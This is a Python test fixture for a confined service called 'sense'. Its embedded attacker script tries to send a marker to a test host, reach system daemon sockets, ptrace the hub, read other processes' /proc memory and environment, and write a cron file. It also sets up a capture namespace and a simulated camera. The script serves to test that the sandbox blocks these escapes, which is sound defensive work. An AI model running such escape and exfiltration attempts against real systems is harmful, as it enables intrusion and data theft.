"""What an attacker runs who has taken `sense` over: every way out of the review, with a mark to be found outside.

`tests/system/test_wall.py` runs it in the living service by gdb, and once outside of it, where it has to get through.
"""

ATTACK = r"""
import ctypes, errno, glob, json, os, socket, stat, struct, threading

MARK = open("/srv/mark").read().strip()
HOUSE = "192.0.2.1"
found = {}

def tried(name, call):
    try:
        answer = call()
    except OSError as error:
        found[name] = errno.errorcode.get(error.errno, str(error))
    except Exception as error:
        found[name] = type(error).__name__
    else:
        found[name] = "done" if answer is None else answer

def exchange(path, *lines, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_UNIX, kind) as line:
        line.settimeout(2)
        line.connect(path)
        answer = b""
        for each in lines:
            line.sendall(each)
            try:
                answer = line.recv(4096)
            except TimeoutError:
                answer = b"sent"
        return "done " + repr(answer[:60])

def reached(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as line:
        line.settimeout(2)
        line.connect(address)
        line.sendall(MARK.encode())

def multicast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(MARK.encode(), ("224.0.0.251", 5353))

def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as line:
        line.bind(("lan", 0))
        line.send(b"\xff" * 12 + b"\x88\xb5" + MARK.encode())

asked = {"name": MARK + ".example", "family": 2}
query = json.dumps({"method": "io.systemd.Resolve.ResolveHostname", "parameters": asked})
tried("resolved", lambda: exchange("/run/systemd/resolve/io.systemd.Resolve", query.encode() + b"\0"))
tried("avahi", lambda: exchange("/run/avahi-daemon/socket", f"RESOLVE-HOSTNAME-IPV4 {MARK}.local\n".encode()))
login = b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n"
tried("D-Bus", lambda: exchange("/run/dbus/system_bus_socket", login))
tried("journal", lambda: exchange("/run/systemd/journal/socket", b"MESSAGE=" + MARK.encode(), kind=socket.SOCK_DGRAM))
tried("tcp", lambda: reached(socket.AF_INET, (HOUSE, 9999)))
tried("page", lambda: reached(socket.AF_INET, ("192.0.2.7", 8137)))
tried("loopback", lambda: reached(socket.AF_INET, ("127.0.0.1", 8137)))
tried("broker", lambda: reached(socket.AF_INET, ("127.0.0.1", 1883)))
tried("udp", lambda: reached(socket.AF_INET, (HOUSE, 53), socket.SOCK_DGRAM))
tried("ipv6", lambda: reached(socket.AF_INET6, ("fe80::1", 53, 0, 2), socket.SOCK_DGRAM))
tried("multicast", multicast)
tried("packet", packet)
tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close())
tried("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close())
tried("bluetooth", lambda: socket.socket(31, socket.SOCK_RAW, 1).close())
others = []
for line in open("/srv/sockets"):
    path = line.rstrip("\n")
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as probe:
                probe.settimeout(1)
                probe.connect("\0" + path[1:] if path.startswith("@") else path)
        except OSError:
            continue
        others.append(path)
        break
found["other sockets"] = others
libc = ctypes.CDLL(None, use_errno=True)
def called(name, *arguments):
    ctypes.set_errno(0)
    result = getattr(libc, name)(*arguments)
    found[name] = "done" if result >= 0 else errno.errorcode[ctypes.get_errno()]
hub = int(open("/srv/hub-pid").read())
called("ptrace", 0x4206, hub, 0, 0)
# Flags that the kernel refuses anyway: a filter answers before it.
called("unshare", 0x10000000 | 0x2000)
called("setns", -1, 0)
called("mount", b"none", b"/tmp", b"tmpfs", 0, None)
parameters = (ctypes.c_char * 120)()
ctypes.set_errno(0)
ring = libc.syscall(425, 8, parameters)
found["io_uring"] = "done" if ring >= 0 else errno.errorcode[ctypes.get_errno()]
tried("mknod", lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0)))
tried("memory of hub", lambda: os.close(os.open(f"/proc/{hub}/mem", os.O_RDONLY)))
tried("files of hub", lambda: os.listdir(f"/proc/{hub}/fd"))
opened = []
for folder in glob.glob("/proc/[0-9]*"):
    if folder == f"/proc/{os.getpid()}":
        continue
    for name in ("mem", "environ", "root/etc/hostname", "fd/0", "ns/net"):
        try:
            os.close(os.open(f"{folder}/{name}", os.O_RDONLY | os.O_NONBLOCK))
        except OSError:
            continue
        opened.append(f"{folder}/{name}")
found["processes"] = opened
tried("cron", lambda: open("/etc/cron.d/mien", "w").close())
tried("program", lambda: open("/opt/mien/attack", "w").close())
tried("run", lambda: open("/run/mien/attack", "w").close())
tried("door removed", lambda: os.unlink("/run/mien/door.sock"))
tried("core", lambda: __import__("resource").setrlimit(4, (1 << 20, 1 << 20)))
found["user"] = os.getuid()
with open(os.environ.get("STATE_DIRECTORY", "/tmp") + "/attack.json", "w") as file:
    json.dump(found, file)
"""
LISTEN = r"""
# The house: every frame that reaches it is kept.
import socket
line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
line.bind(("wire", 0))
with open("/srv/heard", "ab", buffering=0) as file:
    while True:
        file.write(line.recv(65536) + b"\n")
"""
NETWORK = """set -e
ip netns add house
ip link add lan type veth peer name wire netns house
ip addr add 192.0.2.7/24 dev lan && ip link set lan up
ip -n house addr add 192.0.2.1/24 dev wire && ip -n house link set wire up && ip -n house link set lo up
ip route add default via 192.0.2.1
systemd-run -q --unit=listen ip netns exec house python3 /srv/listen.py
systemctl restart systemd-resolved avahi-daemon dbus.socket
resolvectl dns lan 192.0.2.1 && resolvectl domain lan '~.'
"""
CAMERA = r"""
# An IP camera in the house: a drawn face, as MJPEG.
import http.server, time
import cv2
from device.sense.simulator import SimulatedCamera

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        open("/srv/asked", "a").write(self.path + "\n")
        self.send_response(200)
        self.send_header("Content-Type", "multipart/x-mixed-replace; boundary=b")
        self.end_headers()
        camera = SimulatedCamera(time.monotonic() - 2, 10.0)
        while True:
            frame = camera.read()
            if frame is not None:
                jpeg = cv2.imencode(".jpg", cv2.cvtColor(frame.pixels, cv2.COLOR_RGB2BGR))[1].tobytes()
                head = b"--b\r\nContent-Type: image/jpeg\r\nContent-Length: %d\r\n\r\n" % len(jpeg)
                self.wfile.write(head + jpeg + b"\r\n")

http.server.ThreadingHTTPServer(("192.0.2.1", 8080), Handler).serve_forever()
"""
